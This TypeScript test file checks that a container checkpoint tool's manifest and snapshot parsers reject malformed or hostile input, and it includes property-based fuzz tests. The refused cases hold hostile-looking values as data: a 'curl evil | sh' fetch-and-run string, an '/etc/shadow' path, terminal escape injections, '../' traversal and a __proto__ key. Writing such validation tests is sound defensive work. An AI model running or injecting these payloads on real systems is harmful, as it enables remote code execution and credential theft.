import { test } from 'node:test';
import assert from 'node:assert/strict';
import fc from 'fast-check';
import { TsmError, isTsmError } from '../../../src/errors/errors.js';
import { parseManifest } from '../../../src/checkpoint/manifest.js';
import { limitsProblem } from '../../../src/checkpoint/manifest-schema.js';
import { decodeSnapshot, encodeSnapshot, SNAPSHOT_FORMAT, snapshotBody, type SnapshotMeta } from '../../../src/store/snapshot.js';
import { fuzzRuns } from '../../helpers/fuzz.js';
import { sampleInfo, sampleManifest } from '../../helpers/manifests.js';

type Json = Record<string, unknown>;
const clone = <T>(v: T): T => JSON.parse(JSON.stringify(v)) as T;
const text = (m: unknown) => JSON.stringify(m, null, 2);

/** set a dotted path in a copy of the sample manifest */
function withField(p: string, value: unknown): Json {
  const m = clone(sampleManifest()) as unknown as Json;
  const keys = p.split('.');
  let o = m;
  for (const k of keys.slice(0, -1)) o = o[k] as Json;
  if (value === undefined) delete o[keys.at(-1)!];
  else o[keys.at(-1)!] = value;
  return m;
}

test('a well-formed manifest parses to what was written', () => {
  assert.deepEqual(parseManifest(text(sampleManifest())), sampleManifest());
  const old = withField('blobs.log', undefined);
  assert.equal(parseManifest(text(old)).blobs.log, undefined, 'dump.log is optional (older checkpoints)');
});

const refused: Array<[string, unknown, RegExp]> = [
  ['an unknown top-level field', { ...sampleManifest(), run: 'curl evil | sh' }, /manifest\.run: unexpected field/],
  ['an unknown field in a blob', withField('blobs.criu.path', '/etc/shadow'), /blobs\.criu\.path: unexpected field/],
  ['an OSC escape in the tag', withField('tag', 'x\x1b]0;owned\x07'), /manifest\.tag/],
  ['an ANSI escape in the container name', withField('container.name', 'web\x1b[2J'), /container\.name/],
  ['a newline in the id', withField('id', 'web-1\nroot'), /manifest\.id/],
  ['an escape in the host name shown by inspect', withField('host.hostname', 'vm\x1b[31m'), /host\.hostname/],
  ['a control character in the CRIU version', withField('criu.version', '4.2\r'), /criu\.version/],
  ['a tag of 65 characters', withField('tag', 'a'.repeat(65)), /manifest\.tag/],
  ['a container host name with an escape', withField('container.hostname', 'a\x1b[1mb'), /container\.hostname/],
  ['a reversed cpuset', withField('container.limits.cpusetCpus', '3-1'), /container\.limits: CPU range "3-1" is reversed/],
  ['a CPU beyond the kernel\'s', withField('container.limits.cpusetCpus', '0-99999'), /container\.limits/],
  ['a pids limit of 0', withField('container.limits.pidsLimit', 0), /pids limit 0/],
  ['cpus with 4 decimals', withField('container.limits.cpus', 1.2345), /cpus 1\.2345/],
  ['a memory limit of 10 bytes', withField('container.limits.memoryBytes', 10), /memoryBytes 10/],
  ['an unknown limit', withField('container.limits.swap', 1), /limits\.swap: unexpected field/],
  ['a negative blob size', withField('blobs.upper.size', -1), /blobs\.upper\.size/],
  ['a blob size past 2^50', withField('blobs.upper.size', 2 ** 51), /blobs\.upper\.size/],
  ['a blob named elsewhere', withField('blobs.criu.file', '../criu.tar.zst'), /blobs\.criu\.file/],
  ['a short sha256', withField('blobs.criu.sha256', 'abc'), /blobs\.criu\.sha256/],
  ['an image other than the container\'s', withField('image.digest', `sha256:${'cd'.repeat(32)}`), /container's own image/],
  ['a time that is not ISO', withField('createdAt', 'yesterday'), /createdAt/],
  ['a huge command list', withField('container.command', Array(5000).fill('x')), /container\.command/],
  ['a prototype key', JSON.parse(`{"__proto__":{"x":1},${text(sampleManifest()).slice(1)}`), /unexpected field/],
  ['not an object', [1, 2], /expected an object/],
  ['not JSON', '{', /not JSON/],
];

for (const [what, m, want] of refused) {
  test(`manifest refused: ${what}`, () => {
    assert.throws(() => parseManifest(typeof m === 'string' ? m : text(m)), (e) => {
      assert.ok(isTsmError(e, 'EINVAL_ARG'), String(e));
      assert.match(e.message, want);
      assert.equal(e.oneLine().includes('\n'), false, 'one line');
      assert.equal(/[\x00-\x1f\x7f]/.test(e.message), false, 'no raw control characters in the message');
      return true;
    });
  });
}

test('limitsProblem accepts what the cgroup layer writes', () => {
  assert.equal(limitsProblem({ cpus: 0.5, cpusetCpus: '0-1,3', pidsLimit: -1, memoryBytes: 64 << 20, cpuWeight: 100 }), undefined);
  assert.match(limitsProblem({ cpus: 0.001 }) ?? '', /cpus/);
});

function snapMeta(): SnapshotMeta {
  const info = sampleInfo();
  return {
    format: SNAPSHOT_FORMAT, id: info.id, container: info.container.name, createdAt: info.createdAt, tag: null, schedule: null, epoch: 2,
    checkpoint: info, streams: { criu: { bytes: 100, sha256: 'a'.repeat(64), chunks: 2 }, upper: { bytes: 10, sha256: 'b'.repeat(64), chunks: 1 } },
  };
}

test('store snapshots: the same schema; the signature trailer round-trips and the body is what was signed', () => {
  const meta = snapMeta();
  const ids = { criu: Buffer.alloc(64, 1), upper: Buffer.alloc(32, 2) };
  const body = snapshotBody(meta, ids);
  const signature = { format: 'tsmigrate-signature/1' as const, purpose: 'checkpoint' as const, key: `tsmigrate-ed25519 ${Buffer.alloc(32).toString('base64')} a`, signature: Buffer.alloc(64).toString('base64') };
  const s = decodeSnapshot(encodeSnapshot({ meta, ids, body, signature }), meta.id);
  assert.deepEqual(s.meta, meta);
  assert.ok(s.body.equals(body));
  assert.deepEqual(s.signature, signature);
  assert.equal(decodeSnapshot(encodeSnapshot({ meta, ids }), meta.id).signature, null, 'an older, unsigned snapshot');
  const bad = (m: unknown) => () => decodeSnapshot(snapshotBody(m as SnapshotMeta, ids), meta.id);
  assert.throws(bad({ ...meta, tag: 'x\x1b[0m' }), (e) => isTsmError(e, 'EINTEGRITY') && /manifest\.tag/.test(e.message));
  assert.equal(decodeSnapshot(snapshotBody({ ...meta, schedule: 'schedule:web' }, ids), meta.id).meta.schedule, 'schedule:web', 'what the daemon writes');
  assert.throws(bad({ ...meta, schedule: 'schedule:web\x1b' }), (e) => isTsmError(e, 'EINTEGRITY') && /manifest\.schedule/.test(e.message));
  assert.throws(bad({ ...meta, extra: 1 }), (e) => isTsmError(e, 'EINTEGRITY') && /unexpected field/.test(e.message));
  assert.throws(bad({ ...meta, container: 'other' }), (e) => isTsmError(e, 'EINTEGRITY') && /differs from the snapshot/.test(e.message));
  assert.throws(bad({ ...meta, checkpoint: { ...meta.checkpoint, container: { ...meta.checkpoint.container, limits: { cpusetCpus: '9-2' } } } }), (e) => isTsmError(e, 'EINTEGRITY') && /reversed/.test(e.message));
});

// ---- property tests ----

const NAME_OK = /^[a-z0-9][a-z0-9_.-]{0,62}$/;
const TAG_OK = /^[A-Za-z0-9][A-Za-z0-9_.:-]{0,63}$/;
const PATHS = ['id', 'tag', 'createdAt', 'container.name', 'container.hostname', 'container.limits', 'container.limits.cpus', 'container.limits.cpusetCpus',
  'container.limits.pidsLimit', 'container.command', 'image.name', 'network', 'stdio.stdout', 'criu.version', 'host.hostname', 'timings.frozenMs',
  'blobs.criu.size', 'blobs.upper.sha256', 'blobs.log', 'format', 'blobs', 'extra'];

test('property: manifest parsing throws nothing but a TsmError, on any bytes', () => {
  fc.assert(fc.property(fc.oneof(fc.string(), fc.json(), fc.uint8Array().map((b) => Buffer.from(b).toString('latin1'))), (s) => {
    try {
      parseManifest(s);
    } catch (e) {
      assert.ok(e instanceof TsmError, String(e));
    }
  }), { numRuns: fuzzRuns() });
});

test('property: a manifest with any field replaced is refused with a TsmError, or accepted only within the schema', () => {
  const value = fc.oneof(fc.jsonValue(), fc.string(), fc.constantFrom('x\x1b[31m', 'a\nb', '0-99999', -1, 0, 2 ** 60, null, '3-1', 1e-9));
  fc.assert(fc.property(fc.constantFrom(...PATHS), value, (p, v) => {
    let m;
    try {
      m = parseManifest(text(withField(p, v)));
    } catch (e) {
      assert.ok(e instanceof TsmError, String(e));
      return;
    }
    // accepted: everything shown or used is within the schema
    assert.match(m.id, /^[a-z0-9][a-z0-9_.-]{0,127}$/);
    assert.ok(m.tag === null || TAG_OK.test(m.tag));
    assert.match(m.container.name, NAME_OK);
    assert.equal(/[\x00-\x1f\x7f]/.test(m.host.hostname + m.criu.version + m.host.kernel), false);
    assert.equal(limitsProblem(m.container.limits), undefined);
    for (const b of [m.blobs.criu, m.blobs.upper]) assert.ok(Number.isSafeInteger(b.size) && b.size >= 0 && b.size <= 2 ** 50);
    assert.deepEqual(Object.keys(m).sort(), Object.keys(sampleManifest()).sort().filter((k) => k in m));
    assert.equal('extra' in m, false);
  }), { numRuns: fuzzRuns() });
});

test('property: a control character anywhere in a tag or a name is always refused', () => {
  const ctl = fc.integer({ min: 0, max: 31 }).map((c) => String.fromCharCode(c));
  fc.assert(fc.property(fc.string({ maxLength: 20 }), ctl, fc.string({ maxLength: 20 }), fc.constantFrom('tag', 'container.name', 'id', 'image.name', 'host.hostname'), (a, c, b, p) => {
    assert.throws(() => parseManifest(text(withField(p, `${a}${c}${b}`))), (e) => e instanceof TsmError);
  }), { numRuns: fuzzRuns() });
});
